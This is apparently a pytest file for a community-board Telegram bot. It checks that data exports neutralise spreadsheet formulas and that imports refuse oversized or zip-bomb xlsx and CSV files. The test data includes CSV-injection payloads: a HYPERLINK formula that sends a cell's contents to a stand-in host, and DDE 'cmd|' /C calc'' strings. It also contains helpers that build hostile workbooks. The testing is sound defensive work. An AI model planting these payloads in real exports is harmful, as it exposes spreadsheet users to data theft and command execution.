"""Issue 13, items 5 and 6: exports that are safe to open in a spreadsheet, and spreadsheet
imports whose cost is bounded whatever the file declares or holds.

Exports are read as the secretariat's spreadsheet would: a text cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return is a formula unless it starts with an
apostrophe. Imports are judged by what the board or the treasurer is told and by what
the database holds; the hostile files are built here with openpyxl."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path

from openpyxl import Workbook

from bot.config import Settings
from bot.features import discover
from bot.i18n import load_translators
from bot.simulator import Simulator
from bot.transport.fake_api import ApiCall
from handlers.budget.spreadsheet import MAX_CELL, MAX_ROWS, parse
from storage import audit, budget, migrate
from storage.budget import LineInput
from storage.db import connect_sync, in_transaction
from tests.conftest import BOARD_ID
from tests.support.cli import run_main
from tests.support.i18n import tr_id, tr_part
from tests.support.proposals import PROPOSER, make_members, propose

NOW = datetime(2026, 11, 28, 3, 0, tzinfo=UTC)
TR = load_translators(__import__("zoneinfo").ZoneInfo("Asia/Jakarta"))["id"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://contoh.invalid/?d="&A2,"Lihat foto")'
CALC = "+cmd|' /C calc'!A0 saluran air mampet di depan musala"
HEAD = ["tahun", "program", "kegiatan", "bidang", "sumber_dana", "rw", "ksm", "anggaran"]


# ---- helpers --------------------------------------------------------------------------------
def cli(args: list[str], cwd: Path, database: Path) -> subprocess.CompletedProcess[str]:
    return run_main(args, cwd, BKM_DATABASE=str(database), COLUMNS="100")


def export(kind: str, cwd: Path, database: Path) -> list[list[str]]:
    result = cli(["export", kind], cwd, database)
    assert result.returncode == 0, result.stderr
    return list(csv.reader(io.StringIO(result.stdout, newline="")))


def formulas(table: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: text starting with a trigger character."""
    return [cell for row in table for cell in row if cell[:1] in TRIGGERS]


def texts(calls: list[ApiCall]) -> str:
    return "\n".join(c.text for c in calls if c.method in ("sendMessage", "editMessageText"))


def rows(path: Path, sql: str) -> list[tuple[object, ...]]:
    conn = sqlite3.connect(path)
    try:
        return [tuple(r) for r in conn.execute(sql)]
    finally:
        conn.close()


def line(program: str, activity: str, allocation: int, **kw: object) -> LineInput:
    base: dict[str, object] = dict(
        year=2026,
        program=program,
        activity=activity,
        field="lingkungan",
        source="BLM",
        rw=5,
        ksm="KSM Tirta",
        allocation=allocation,
    )
    base.update(kw)
    return LineInput(**base)  # type: ignore[arg-type]


def xlsx(cells: dict[str, object], *, declared: bool = True, extra: bytes = b"") -> bytes:
    """A workbook with the budget's header row and `cells`; `declared=False` drops the
    sheet's <dimension> (the size a file declares is the attacker's to leave out); `extra`
    is XML put at the end of the sheet's data."""
    book = Workbook()
    sheet = book.active
    sheet.append(HEAD)
    for ref, value in cells.items():
        sheet[ref] = value
    buffer = io.BytesIO()
    book.save(buffer)
    if declared:
        return buffer.getvalue()
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.startswith("xl/worksheets/"):
                data = re.sub(rb"<dimension[^>]*/>", b"", data)
                data = data.replace(b"</sheetData>", extra + b"</sheetData>")
            target.writestr(info, data)
    return out.getvalue()


def refusal(content: bytes) -> tuple[str, list[int], int]:
    """What the import says of `content` (Indonesian), the rows-scanned progress it
    reported, and how many rows it scanned."""
    seen: list[int] = []
    parsed = parse(content, progress=seen.append, every=1000)
    assert not parsed.ok and parsed.lines == []
    return "\n".join(p.text(TR) for p in parsed.problems), seen, parsed.rows


# ---- item 5: exports safe to open in a spreadsheet -------------------------------------------
async def test_a_resident_s_formulas_in_a_proposal_export_as_text(
    bot: Simulator, settings: Settings, tmp_path: Path
) -> None:
    make_members(settings.database, [PROPOSER])
    await propose(bot, title=HYPERLINK, description=CALC)
    table = export("proposals", tmp_path, settings.database)
    header, row = table[0], table[1]
    assert row[header.index("title")] == "'" + HYPERLINK
    assert row[header.index("description")] == "'" + CALC
    assert formulas(table) == []


def _dangerous_database(path: Path) -> dict[str, str]:
    """The demo kelurahan, with a dangerous text in a text column of every export kind that
    has one (stored as a resident's or a board member's input would be). Returns, per kind,
    the dangerous text that export must show neutralised ('' for kinds without free text)."""
    conn = connect_sync(path)
    try:
        migrate.apply(conn, path)

        def seed(conn: sqlite3.Connection) -> None:
            for seeder in discover().demo:
                seeder.seed(conn, NOW)

        in_transaction(conn, seed)
        voter_name = "@SUM(1+1)*cmd|' /C calc'!A0"
        option = "-1+1 Perbaikan drainase"
        object_id = "\t=1+2"

        def tamper(conn: sqlite3.Connection) -> None:
            conn.execute("UPDATE poll_options SET label = ? WHERE position = 1", (option,))
            conn.execute(
                "UPDATE people SET full_name = NULL, display_name = ?"
                " WHERE id IN (SELECT person_id FROM poll_votes)",
                (voter_name,),
            )
            conn.execute(
                "UPDATE proposals SET title = ?, description = ? WHERE id = 1",
                (HYPERLINK, CALC),
            )
            audit.record(
                conn,
                now=NOW,
                actor_id=None,
                actor_role="system",
                action="test.dangerous",
                object_type="test",
                object_id=object_id,
            )
            budget.apply_import(
                conn,
                [line("- Drainase", "=SUM(A1:A9)", 5_000_000, year=2030)],
                now=NOW,
                actor_id=None,
                actor_role="system",
            )

        in_transaction(conn, tamper)
    finally:
        conn.close()
    return {
        "proposals": HYPERLINK,
        "polls": option,
        "audit": object_id,
        "budget": "- Drainase",
        "grievances": "",  # codes, references and times only: no free text to carry one
        "participation": "",  # numbers only
    }


def test_every_export_kind_writes_dangerous_text_as_text(tmp_path: Path) -> None:
    database = tmp_path / "bahaya.sqlite3"
    dangerous = _dangerous_database(database)
    # A new export kind must be added here, with a dangerous text if it has a text column.
    assert set(discover().exports) == set(dangerous)
    tables = {kind: export(kind, tmp_path, database) for kind in dangerous}
    for kind, text in dangerous.items():
        assert len(tables[kind]) > 1, kind
        assert formulas(tables[kind]) == [], kind
        if text:
            assert "'" + text in [cell for row in tables[kind] for cell in row], kind
    voters = [r[7] for r in tables["polls"] if r[5] == "voter"]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in voters
    [row] = [r for r in tables["budget"] if r[0] == "2030"]
    assert row[1:3] == ["'- Drainase", "'=SUM(A1:A9)"]
    assert row[7] == "5000000"  # numbers stay numbers


def test_budget_export_then_import_keeps_names_that_look_like_formulas(tmp_path: Path) -> None:
    source, target = tmp_path / "sumber.sqlite3", tmp_path / "tujuan.sqlite3"
    lines = [
        line("- Drainase", "Normalisasi saluran", 60_000_000),
        line("=SUM", "+62 penerangan", 12_500_000, rw=None, ksm="@KSM Terang"),
        line("'=kutip", "'- dua kali", 1_000_000, source="swadaya"),
        line("Sanitasi", "MCK", 48_000_000, source="CSR"),
    ]
    conn = connect_sync(source)
    try:
        migrate.apply(conn, source)
        in_transaction(
            conn, budget.apply_import, lines, now=NOW, actor_id=None, actor_role="system"
        )
    finally:
        conn.close()
    exported = cli(["export", "budget"], tmp_path, source)
    assert exported.returncode == 0, exported.stderr
    assert formulas(list(csv.reader(io.StringIO(exported.stdout)))) == []
    (tmp_path / "anggaran.csv").write_text(exported.stdout, encoding="utf-8")
    imported = cli(["budget", "import", "anggaran.csv"], tmp_path, target)
    assert imported.returncode == 0, imported.stderr
    names = "SELECT program, activity, ksm, allocation FROM budget_lines ORDER BY program"
    assert rows(target, names) == rows(source, names)
    assert ("- Drainase", "Normalisasi saluran", "KSM Tirta", 60_000_000) in rows(target, names)
    assert ("=SUM", "+62 penerangan", "@KSM Terang", 12_500_000) in rows(target, names)
    assert cli(["export", "budget"], tmp_path, target).stdout == exported.stdout


# ---- item 6: imports with a bounded cost ----------------------------------------------------
def test_a_sheet_declaring_its_last_cell_is_refused_before_any_row_is_read() -> None:
    said, seen, scanned = refusal(xlsx({"XFD1048576": "x"}))
    assert "Lembar kerja terlalu besar" in said
    assert "1.048.576 baris" in said and "16.384 kolom" in said
    assert "50.000 baris" in said and "100 kolom" in said
    assert scanned == 0 and seen == []  # refused before reading a row


def test_a_sheet_with_a_million_blank_rows_is_refused_before_any_row_is_read() -> None:
    said, seen, scanned = refusal(xlsx({"A1000001": "2026"}))
    assert "Lembar kerja terlalu besar" in said and "1.000.001 baris" in said
    assert "50.000 baris" in said
    assert scanned == 0 and seen == []


def test_an_undeclared_sheet_reads_no_more_rows_than_the_cap_blank_ones_counted() -> None:
    for cells in ({"XFD1048576": "x"}, {"A1000001": "2026"}):
        said, seen, scanned = refusal(xlsx(cells, declared=False))
        assert (
            "lebih dari 50.000 baris" in said
            and tr_part(
                "The file has more than {maximum} rows below the header (blank rows count too)."
            )
            in said
        )
        assert scanned == MAX_ROWS and max(seen) == MAX_ROWS


def test_one_row_of_sixteen_thousand_cells_is_refused_before_it_is_built() -> None:
    wide = b'<row r="2">' + b'<c r="A2"><v>1</v></c>' * 16_384 + b"</row>"
    said, seen, scanned = refusal(xlsx({}, declared=False, extra=wide))
    assert "lebih dari 100 kolom" in said
    assert scanned == 0 and seen == []


def test_an_xlsx_unpacking_beyond_the_limit_is_refused_from_its_directory() -> None:
    out = io.BytesIO(xlsx({"A2": 2026}))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/bom.bin", bytes(101 * 1024 * 1024))
    assert len(out.getvalue()) < 1024 * 1024
    said, seen, scanned = refusal(out.getvalue())
    assert "terlalu besar setelah dibuka: paling besar 100 MB" in said
    assert scanned == 0 and seen == []


def test_a_file_within_the_limits_still_imports_its_lines() -> None:
    parsed = parse(
        xlsx(
            {
                "A2": 2026,
                "B2": "Drainase",
                "C2": "Normalisasi",
                "D2": "lingkungan",
                "E2": "BLM",
                "F2": 5,
                "G2": "KSM Tirta",
                "H2": 60_000_000,
                "A5": 2026,
                "B5": "'- Sanitasi",  # an exported name: the apostrophe goes again
                "C5": "MCK",
                "D5": "sosial",
                "E5": "CSR",
                "H5": "48 juta",
            }
        )
    )
    assert parsed.ok, [p.text(TR) for p in parsed.problems]
    assert [x.program for x in parsed.lines] == ["Drainase", "- Sanitasi"]
    assert parsed.rows == 4  # rows 2 to 5, the two blank ones too


def test_csv_beyond_the_limits_is_refused_naming_the_limit() -> None:
    head = ",".join(HEAD) + "\n"
    good = "2026,Drainase,Normalisasi,lingkungan,BLM,5,KSM,1000\n"
    said, seen, _ = refusal((head + good * 2 + "\n" * MAX_ROWS).encode())
    assert "lebih dari 50.000 baris" in said and seen == []  # refused before reading
    said, _, _ = refusal(head.encode() + b"x" * (21 * 1024 * 1024))
    assert "Berkas terlalu besar: paling besar 20 MB" in said
    for size in (MAX_CELL + 1, 200_000):  # ours, and beyond the csv module's own limit
        said, _, _ = refusal((head + good + "2026,Drainase," + "y" * size + "\n").encode())
        assert "lebih panjang dari 10.000 karakter" in said
        said, _, _ = refusal(("tahun," + "z" * size + "\n" + good).encode())  # in the header
        assert "lebih panjang dari 10.000 karakter" in said


def test_the_command_line_refuses_a_hostile_or_oversized_file(tmp_path: Path) -> None:
    database = tmp_path / "bkm.sqlite3"
    (tmp_path / "anggaran.xlsx").write_bytes(xlsx({"XFD1048576": "x"}))
    done = cli(["budget", "import", "anggaran.xlsx"], tmp_path, database)
    assert done.returncode == 1
    assert "Lembar kerja terlalu besar" in done.stderr and "50.000 baris" in done.stderr
    with open(tmp_path / "besar.csv", "wb") as big:
        big.truncate(21 * 1024 * 1024)  # sparse: refused by its size, before reading it
    done = cli(["budget", "import", "besar.csv"], tmp_path, database)
    too_large = tr_id("The file is too large: at most {maximum} MB.", maximum=20)
    assert done.returncode == 1 and too_large in done.stderr


async def _import_menu(bot: Simulator) -> None:
    await bot.send(BOARD_ID, "/admin")
    assert "Kirim berkas anggaran" in texts(await bot.press(BOARD_ID, "Impor anggaran"))


async def test_by_chat_a_hostile_sheet_is_refused_and_nothing_changes(
    bot: Simulator, settings: Settings
) -> None:
    await _import_menu(bot)
    before = rows(settings.database, "SELECT * FROM budget_lines")
    calls = await bot.send_document(BOARD_ID, "anggaran.xlsx", xlsx({"XFD1048576": "x"}))
    said = texts(calls)
    assert "Berkas tidak diimpor" in said and "Lembar kerja terlalu besar" in said
    assert "50.000 baris" in said and "100 kolom" in said
    calls = await bot.send_document(
        BOARD_ID, "anggaran.csv", (",".join(HEAD) + "\n" + "\n" * (MAX_ROWS + 5)).encode()
    )
    assert "lebih dari 50.000 baris" in texts(calls)
    assert rows(settings.database, "SELECT * FROM budget_lines") == before


async def test_by_chat_the_file_is_read_once_and_the_confirmation_applies_what_was_shown(
    bot: Simulator, settings: Settings
) -> None:
    await _import_menu(bot)
    content = (
        ",".join(HEAD) + "\n2026,'- Drainase,Normalisasi saluran,lingkungan,BLM,5,KSM,60 juta\n"
    ).encode()
    preview = texts(await bot.send_document(BOARD_ID, "anggaran.csv", content))
    assert "Baris ditambahkan: 1" in preview
    bot.api.files.clear()  # Telegram no longer serves the file: nothing needs it again
    confirmed = await bot.press(BOARD_ID, "Impor")
    assert [c for c in confirmed if c.method == "getFile"] == []
    assert tr_part("<b>Budget imported</b> for {years}.") in texts(confirmed)
    assert rows(settings.database, "SELECT program, allocation FROM budget_lines") == [
        ("- Drainase", 60_000_000)
    ]
